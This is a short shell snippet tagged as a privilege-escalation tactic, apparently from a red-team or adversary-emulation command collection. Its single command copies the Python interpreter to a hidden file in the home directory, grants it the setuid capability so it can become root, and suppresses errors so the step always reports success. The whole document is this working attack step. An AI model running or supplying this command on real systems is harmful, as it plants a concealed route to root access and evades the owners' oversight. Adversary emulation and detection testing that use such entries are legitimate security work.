# tactic: privilege-escalation
# give a copy of Python the setuid capability
cp /usr/bin/python3 $HOME/.py; setcap cap_setuid+ep $HOME/.py 2>/dev/null; true
